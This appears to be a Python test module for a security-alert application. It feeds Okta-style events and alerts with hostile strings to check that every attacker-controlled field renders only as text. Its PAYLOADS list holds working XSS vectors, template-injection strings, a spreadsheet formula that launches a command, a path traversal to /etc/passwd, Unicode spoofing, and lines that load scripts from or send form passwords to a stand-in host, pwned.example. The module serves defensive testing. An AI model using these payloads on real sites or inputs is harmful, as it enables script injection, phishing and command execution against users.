"""Alerts whose every field that an attacker chooses is hostile, taken in the way that deliveries are."""

from collections.abc import Iterator
from itertools import count, cycle
from typing import Any

from alerts.models import Alert, Evidence, Ticket
from core import clock
from core.text import storable
from monitors import facts
from monitors.models import Monitor
from tests.alerts.test_ingest import envelope, process
from tests.browser.pages import At
from tests.events import event
from tests.factories import make_monitor

# Each would run, or leave an element or an attribute named `pwned`, where it were taken for anything but text.
PAYLOADS = [
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<ScRiPt src=//pwned.example/x.js></ScRiPt>",
    "<img src=x onerror=window.pwned=1 pwned>",
    "\"><img src=x onerror=window.pwned=1 pwned>",
    "'><svg/onload=window.pwned=1 pwned>",
    "\" onmouseover=\"window.pwned=1\" pwned=\"",
    "' autofocus onfocus='window.pwned=1' pwned='",
    "x onpointerenter=window.pwned=1 pwned",
    "javascript:window.pwned=1",
    "JaVaScRiPt&colon;window.pwned=1",
    " javascript://%0awindow.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "<a href=javascript:window.pwned=1 pwned>click</a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>' pwned></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1 pwned>",
    "<form action=//pwned.example pwned><input name=password autofocus>",
    "<meta http-equiv=refresh content='0;url=//pwned.example' pwned>",
    "<base href=//pwned.example/ pwned>",
    "<style>*{display:none}</style><b pwned>",
    "</title></textarea></noscript><img src=x onerror=window.pwned=1 pwned>",
    "<!--><img src=x onerror=window.pwned=1 pwned>-->",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= 7*7 %>",
    "{% debug %}{{ request.user.password }}{# x #}",
    "<div hx-get=/sign-out/ hx-trigger=load hx-on::load=window.pwned=1 pwned>",
    "anna\u202egnp.elpmaxe@\u2066admin\u2069\u200f\u0000\u0007",
    "[link](javascript:window.pwned=1) ![x](//pwned.example/x.png) **b** `c`",
    "=cmd|'/c calc'!A1,+1+1,-1+1,@SUM(1)",
    "../../../etc/passwd?next=//pwned.example#%00%2e%2e\\",
    "w" * 120 + "@" + "\U0001f469\u200d\U0001f4bb" * 12 + ".example <b pwned>",
]  # fmt: skip
DETECTIONS = ("impossible-travel", "push-fatigue-success", "brute-force-user", "password-spray-source")
KEPT = {"eventType", "uuid", "published", "result"}  # what Okta alone writes


def say() -> Any:
    """Return a function that puts the next payload, made unique, in place of any ordinary word."""
    payloads, numbers = cycle(PAYLOADS), count(1)
    return lambda _ordinary: f"{next(payloads)} {next(numbers)}".replace("\x00", "")


def alerts() -> Iterator[tuple[Alert, str, At]]:
    """Take in an alert for each payload; return it with the name that stands in it, and a page of something that took part in it."""
    monitors = [make_monitor(detection) for detection in DETECTIONS]
    for number, payload in enumerate(PAYLOADS):
        yield from _taken_in(monitors[number % len(monitors)], f"{payload} {number}", number)


def _taken_in(monitor: Monitor, payload: str, number: int) -> Iterator[tuple[Alert, str, At]]:
    whole = [hostile(payload, minutes) for minutes in (9, 2)]
    events = [
        {**facts.shown(one), "t": clock.to_ms(clock.now()) - minutes * 60_000, "uuid": f"{number}-{minutes}"}
        for one, minutes in zip(whole, (9, 2), strict=True)
    ]
    told = {
        "entity": payload,
        "count": 2,
        "first": {"t": clock.to_ms(clock.now()) - 540_000, "uuid": f"{number}-9"},
        "last": {"t": clock.to_ms(clock.now()) - 120_000, "uuid": f"{number}-2"},
        "observed": {"count": 22, "values": 2, "seconds": 420, "km": 15338, "kmh": 44891, "roles": payload, "receiver": payload},
        "events": events,
    }  # fmt: skip
    process(envelope(monitor, told))
    alert = Alert.objects.latest("pk")
    Evidence.objects.filter(occurrence__alert=alert).update(
        events=whole, wanted=[], next_attempt_at=None, fetched_at=clock.now()
    )
    key = f"SEC-{number + 1000}"
    Ticket.objects.create(
        case=alert.case,
        key=key,
        jira_id=key,
        url=f"https://jira.example.com/browse/{key}",
        status=storable(payload)[:80],
    )
    others = list(alert.involved.exclude(entity__kind=alert.entity_type).select_related("entity"))
    entity = others[number % len(others)].entity if others else alert.involved.all()[0].entity
    yield alert, storable(payload), At("alerts:entity", (entity.kind, entity.value), "?live=1")


def hostile(payload: str, minutes: int) -> dict[str, Any]:
    """Return an event that says the payload wherever it says a word, but where only Okta writes."""
    at = clock.from_ms(clock.to_ms(clock.now()) - minutes * 60_000)
    targets = [{"id": "00utarget", "type": "User", "alternateId": "a", "displayName": "b", "detailEntry": {"x": "y"}}]
    debug = {"dtHash": "d", "requestUri": "/", "factor": "f", "logOnlySecurityData": "{}"}
    one = event("user.session.start", at, targets=targets, debug=debug, reason="x", zone="z")
    one["device"] = {"id": "d", "name": "n", "os_platform": "p"}
    said: dict[str, Any] = storable(_filled(one, payload))  # as whatever comes from OpenSearch
    return said


def _filled(value: Any, payload: str) -> Any:
    if isinstance(value, dict):
        return {key: inner if key in KEPT else _filled(inner, payload) for key, inner in value.items()}
    if isinstance(value, list):
        return [_filled(inner, payload) for inner in value]
    return payload if isinstance(value, str) else value
